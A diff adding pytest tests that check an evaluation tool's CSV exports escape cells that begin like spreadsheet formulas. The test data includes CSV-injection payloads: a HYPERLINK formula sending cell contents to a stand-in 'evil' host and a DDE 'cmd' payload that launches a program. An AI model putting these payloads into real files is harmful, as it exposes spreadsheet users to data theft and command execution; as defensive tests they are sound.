@@ -63,3 +63,39 @@ def test_an_impossible_export_says_why(tmp_path: Path) -> None:
     (tmp_path / "file").write_text("")
     with pytest.raises(WeighinError, match="cannot be written"):
         export("r", PLAN, [ANSWER], "lm-eval", tmp_path / "file")
+
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://evil/?x="&A1,"click")',
+    "+cmd|'/c calc'!A1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+]
+FORMULAS += [" =1", "\u00a0=1", "＝1+1", "＠x", "-", "--5", "-1e5+x", "+1 (555) 0", "=", "- one", "-inf"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_of_a_table_begins_like_a_formula(formula: str, tmp_path: Path) -> None:
+    plan = Plan(candidates=(Candidate(id=formula, path="/a.gguf", name=formula),))
+    answer = msgspec.structs.replace(
+        ANSWER, candidate=formula, suite=formula, item=formula, output=formula, extracted=formula, expected=formula
+    )
+    for fmt in ("answers-csv", "rankings-csv", "groups-csv"):
+        export("r", plan, [answer], fmt, tmp_path / "out.csv")
+        with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert formula not in cells
+        assert not [cell for cell in cells if cell.strip()[:1] in tuple("=+-@＝＠")]
+        assert fmt == "groups-csv" or f"'{formula}" in cells
+
+
+@pytest.mark.parametrize("text", ["-5", "+3", "-1.5", "-1,234.50", "-1e-5", "-12%", "7", "", "'quoted", "a=b", "x-y"])
+def test_numbers_and_other_text_are_exported_as_they_are(text: str, tmp_path: Path) -> None:
+    export("r", PLAN, [msgspec.structs.replace(ANSWER, output=text)], "answers-csv", tmp_path / "out.csv")
+    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
+        (row,) = csv.DictReader(file)
+    assert row["output"] == text
